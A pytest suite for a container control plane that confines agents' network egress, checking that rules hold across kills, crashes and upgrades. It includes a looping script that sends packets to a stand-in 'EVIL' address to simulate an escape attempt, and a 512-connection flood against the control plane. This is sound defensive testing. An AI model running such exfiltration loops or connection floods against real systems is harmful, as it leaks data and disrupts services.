"""
The control plane as a container: made, killed, replaced and ended while agents run, on a machine of its own.
"""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from clawker_cp.engines.docker.siblings import COREDNS, ENVOY
from clawker_cp.testing.docker_machine import NETWORK, DockerMachine, docker_machine
from clawker_cp.testing.docker_world import missing
from clawker_cp.testing.peers import WHY, peer
from clawker_cp.testing.stack_images import import_stack_images
from clawker_cp.testing.stack_images import settings as stack_settings

pytestmark = [
    pytest.mark.root, pytest.mark.slow, pytest.mark.docker, pytest.mark.envoy, pytest.mark.timeout(600),
    pytest.mark.asyncio(loop_scope="module"), pytest.mark.skipif(bool(missing()), reason=missing() or "-"),
]  # fmt: skip

ROOT = Path(__file__).parents[2]
CONTROL_PLANE = "clawker-controlplane"
EVIL = "203.0.113.66"
CURL = ("/usr/bin/curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}")
# Sends to where no rule leads for as long as it is let, over TCP and UDP.
RESTLESS = f"""
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    for port in (53, 5000):
        try: u.sendto(b"escaped-swap", ("{EVIL}", port))
        except OSError: pass
    try:
        t = socket.socket(); t.settimeout(0.1); t.connect(("{EVIL}", 6379)); t.send(b"escaped-swap")
    except OSError: pass
    time.sleep(0.005)
"""


async def _built(machine: DockerMachine, *words: str, data: str = "") -> None:
    environment = {**os.environ, **machine.docker.environment(), "DOCKER_BUILDKIT": "0"}
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(
        *words, env=environment, stdin=pipe, stdout=pipe, stderr=asyncio.subprocess.STDOUT
    )
    async with asyncio.timeout(500):
        out, _ = await process.communicate(data.encode())
    assert process.returncode == 0, out.decode(errors="replace")[-3000:]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def machine() -> AsyncIterator[DockerMachine]:
    async with docker_machine(own_pids=True, live_restore=True) as machine:
        environment = machine.machine.environment
        # What the container is told has to be a path inside of it.
        config = Path(environment["CLAWKER_CONFIG_DIR"])
        config.mkdir(parents=True)
        (config / "world-ca.pem").write_bytes(machine.machine.world.ca.read_bytes())
        environment["CLAWKER_CP_ENVOY__TRUSTED_CA"] = "/etc/clawker/config/world-ca.pem"
        await _built(machine, sys.executable, str(ROOT / "tools" / "image.py"), "--tag", "clawker-cp")
        await _built(machine, "docker", "build", "-t", "newer", "-", data="FROM clawker-cp\nLABEL newer=yes\n")
        yield machine


async def up(machine: DockerMachine, *words: str) -> None:
    done = await machine.ctl("up", *words, timeout_s=150)
    assert done.code == 0, done.err


async def status(machine: DockerMachine, container: str, url: str) -> tuple[int, str]:
    done = await machine.inside(container, *CURL, url)
    return done.code, done.out


async def _serves_again(machine: DockerMachine, container: str) -> None:
    """Wait until an agent reaches its allowed name, which needs gate and proxy of a living control plane."""
    async with asyncio.timeout(60):
        while (await status(machine, container, "http://api.example.com/x")) != (0, "200"):
            await asyncio.sleep(0.2)


async def test_up_enforces_agents_and_down_leaves_nothing(machine: DockerMachine) -> None:
    """From nothing to two enforced agents of two projects, and back to nothing, with two commands."""
    await up(machine)
    for project, name in (("shop", "api.example.com"), ("blog", "git.example.org")):
        done = await machine.ctl("allow", f"http://{name}", "--project", project)
        assert done.code == 0, done.err
    shop = await machine.docker.agent("dev", project="shop", network=NETWORK, usr=True)
    blog = await machine.docker.agent("dev", project="blog", network=NETWORK, usr=True)
    await machine.wait_enrolled(shop)
    await machine.wait_enrolled(blog)
    reached = await status(machine, shop, "http://api.example.com/x")
    denied = await status(machine, blog, "http://api.example.com/x")
    refused = await machine.ctl("down")
    for one in (shop, blog):
        await machine.docker.client.remove(one, force=True)
    async with asyncio.timeout(20):
        while await machine.agents():
            await asyncio.sleep(0.1)
    ended = await machine.ctl("down", timeout_s=90)
    left = await in_kernel(machine)
    containers = await machine.docker.client.list_containers(every=True)

    assert reached == (0, "200") and denied[0] == 6
    assert refused.code == 1 and "clawker.shop.dev" in refused.err
    assert ended.code == 0, ended.err
    assert "clawker" not in left
    assert [one["Names"] for one in containers] == []


# Begins 512 connections to the control plane, says how many there are once a second brought no more, and holds them.
GREEDY = """
import select, socket
held, there, poll = {}, 0, select.epoll()
for _ in range(512):
    s = socket.socket(); s.setblocking(False); s.connect_ex(("%s", 7444))
    held[s.fileno()] = s; poll.register(s, select.EPOLLOUT)
while ready := poll.poll(1):
    for fd, event in ready:
        poll.unregister(fd); there += not event & (select.EPOLLERR | select.EPOLLHUP)
print(there, flush=True)
select.select([0], [], [])
"""


async def in_kernel(machine: DockerMachine) -> str:
    """Names of packet filters and pins of the machine."""
    host = machine.machine.host
    return (await host.run(["nft", "list", "tables"])).out + (await host.run(["ls", "/sys/fs/bpf"])).out


async def test_down_leaves_nothing_of_one_that_was_killed_or_is_gone(machine: DockerMachine) -> None:
    """
    While an agent runs `down` names it and leaves the dead server's programs and filters to judge it; after that
    nothing of the server is left in the kernel or the engine, whether its container is still there or not.
    """
    client = machine.docker.client
    await up(machine)
    agent = await machine.docker.agent("dev", project="shop", network=NETWORK, usr=True)
    await machine.wait_enrolled(agent)
    await client.kill(CONTROL_PLANE)
    await machine.machine.world.reset()
    refused = await machine.ctl("down")
    held = await in_kernel(machine)
    tried = await status(machine, agent, f"http://{EVIL}/x")
    packets = await machine.machine.world.packets(dst=EVIL)
    await client.remove(agent, force=True)
    killed = await machine.ctl("down", timeout_s=90)
    after_kill = await in_kernel(machine)
    again = await machine.ctl("down", timeout_s=90)
    await up(machine)
    await client.remove(CONTROL_PLANE, force=True)
    left = await in_kernel(machine)
    gone = await machine.ctl("down", timeout_s=90)
    after_gone = await in_kernel(machine)
    containers = await client.list_containers(every=True)

    assert refused.code == 1 and "clawker.shop.dev" in refused.err and "docker stop" in refused.err
    assert tried[0] == 7 and packets == []
    assert "clawker" in held and "clawker" in left
    assert (killed.code, again.code, gone.code) == (0, 0, 0), killed.err + again.err + gone.err
    assert "/sys/fs/bpf/clawker" in killed.out and "table bridge clawker_" in killed.out
    assert again.out.rstrip().endswith("is not there")
    assert "is not there" in gone.out and "had been left" in gone.out
    assert "clawker" not in after_kill + after_gone
    assert containers == []


async def test_one_agent_cannot_take_all_connections_to_it(machine: DockerMachine) -> None:
    """Of 512 that an agent begins it has 64; another agent is answered meanwhile, and so is an operator."""
    await up(machine)
    client = machine.docker.client
    record = await client.inspect(CONTROL_PLANE)
    address = record["NetworkSettings"]["Networks"][NETWORK]["IPAddress"]
    options: dict[str, Any] = {"network": NETWORK, "usr": True}
    other = await machine.docker.agent("other", **options)
    await machine.wait_enrolled(other)
    greedy = await machine.docker.agent("greedy", **options)
    await machine.wait_enrolled(greedy)
    begin = ["docker", "exec", "--interactive", greedy, "/usr/bin/python3", "-c", GREEDY % address]
    pipe = asyncio.subprocess.PIPE
    held = await machine.machine.host.start(begin, env=machine.machine.environment, stdin=pipe, stdout=pipe)
    assert held.stdin is not None and held.stdout is not None
    try:
        async with asyncio.timeout(30):
            there = int(await held.stdout.readline())
        hello = f"import socket; socket.create_connection(('{address}', 7444), 5); print('answered')"
        answered = await machine.python(other, hello)
        operator = await machine.ctl("status")
        tables = ["nsenter", "-t", str(record["State"]["Pid"]), "-n", "nft", "list", "tables"]
        counted_in = (await machine.machine.host.run(tables)).out
    finally:
        held.stdin.close()  # what it waits for
        async with asyncio.timeout(20):
            await held.wait()
        for one in (greedy, other):
            await client.remove(one, force=True)
    async with asyncio.timeout(20):
        while await machine.agents():
            await asyncio.sleep(0.1)
    ended = await machine.ctl("down", timeout_s=90)

    assert there == 64
    assert answered.out.strip() == "answered", answered.err
    assert operator.code == 0, operator.err
    assert "table inet clawker_share" in counted_in
    assert ended.code == 0, ended.err


async def test_killed_or_replaced_it_opens_nothing(machine: DockerMachine) -> None:
    """A crash, a kill and an upgrade under an agent that never stops trying to get out: nothing ever arrives."""
    await up(machine)
    done = await machine.ctl("allow", "http://api.example.com")
    assert done.code == 0, done.err
    restless = await machine.docker.agent("restless", "/usr/bin/python3", "-c", RESTLESS, network=NETWORK, usr=True)
    await machine.wait_enrolled(restless)
    await machine.machine.world.reset()
    first = (await machine.docker.client.inspect(CONTROL_PLANE))["State"]["Pid"]
    await machine.machine.host.run(["kill", "-9", str(first)])
    await _serves_again(machine, restless)
    crashed = await machine.machine.world.packets(dst=EVIL)
    await machine.docker.client.kill(CONTROL_PLANE)  # what the engine takes for meant, and does not undo
    await up(machine)
    await _serves_again(machine, restless)
    killed = await machine.machine.world.packets(dst=EVIL)
    await up(machine, "--image", "newer")
    await _serves_again(machine, restless)
    replaced = await machine.machine.world.packets(dst=EVIL)
    record = await machine.docker.client.inspect(CONTROL_PLANE)
    await machine.docker.client.remove(restless, force=True)
    async with asyncio.timeout(20):
        while await machine.agents():
            await asyncio.sleep(0.1)
    forgotten = await machine.ctl("rules", "delete", "--scope", "global")  # another's agents are not to have it
    ended = await machine.ctl("down", timeout_s=90)

    assert forgotten.code == 0, forgotten.err
    assert record["Config"]["Labels"].get("newer") == "yes"
    assert crashed == [] and killed == [] and replaced == []
    assert ended.code == 0, ended.err


@pytest.mark.skipif(peer("coredns") is None, reason=WHY.format(name="coredns"))
async def test_traffic_may_be_carried_by_containers_beside_it(
    machine: DockerMachine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    Two projects reach exactly what their rules say, past a kill -9 of the control plane, which Envoy outlives; of a
    control plane that is gone `down` removes what it had carry the traffic.
    """
    await import_stack_images(machine.docker)
    for name, value in stack_settings().items():
        monkeypatch.setitem(machine.machine.environment, name, value)
    client, names = machine.docker.client, {"shop": "api.example.com", "blog": "git.example.org"}
    await up(machine)
    agents = {}
    for project, name in names.items():
        done = await machine.ctl("allow", f"http://{name}", "--project", project)
        assert done.code == 0, done.err
        agents[project] = await machine.docker.agent("dev", project=project, network=NETWORK, usr=True)
        await machine.wait_enrolled(agents[project])
    reached = {
        (project, name): await status(machine, agent, f"http://{name}/x")
        for project, agent in agents.items()
        for name in names.values()
    }
    before = {name: (await client.inspect(name))["State"]["Pid"] for name in (CONTROL_PLANE, ENVOY)}
    await client.kill(CONTROL_PLANE)
    await machine.machine.world.reset()
    alone = await status(machine, agents["shop"], f"http://{EVIL}/y")
    arrived = await machine.machine.world.packets(dst=EVIL)
    await up(machine)
    await _serves_again(machine, agents["shop"])
    after = {name: (await client.inspect(name))["State"]["Pid"] for name in (CONTROL_PLANE, ENVOY)}
    denied = await status(machine, agents["shop"], "http://git.example.org/x")
    for one in agents.values():
        await client.remove(one, force=True)
    await client.remove(CONTROL_PLANE, force=True)
    ended = await machine.ctl("down", timeout_s=90)
    left = await client.list_containers(every=True)

    assert {key for key, told in reached.items() if told == (0, "200")} == set(names.items()), reached
    assert {told[0] for key, told in reached.items() if key not in names.items()} == {6}
    assert (alone, arrived) == ((0, "403"), [])  # Envoy judges on
    assert after[ENVOY] == before[ENVOY] and after[CONTROL_PLANE] != before[CONTROL_PLANE]
    assert denied[0] == 6
    assert (ended.code, left) == (0, []), ended.err
    assert f"{ENVOY}, {COREDNS}, /sys/fs/bpf/clawker, table " in ended.out
